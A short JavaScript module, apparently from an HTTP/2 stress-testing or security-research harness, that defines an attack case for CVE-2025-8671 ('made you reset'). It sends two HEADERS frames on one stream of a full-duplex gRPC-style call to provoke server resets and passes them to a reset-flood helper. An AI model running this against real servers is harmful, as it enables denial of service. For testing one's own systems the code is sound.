import { header } from './call.js';
import { resetFlood } from './reset-flood.js';

/** CVE-2025-8671: a second header section that does not end the stream (RFC 9113 section 8.1). */
export const attack = resetFlood('made you reset: HEADERS after HEADERS', (id) =>
  Buffer.concat([header(id, 'FullDuplexCall'), header(id, 'FullDuplexCall')]),
);
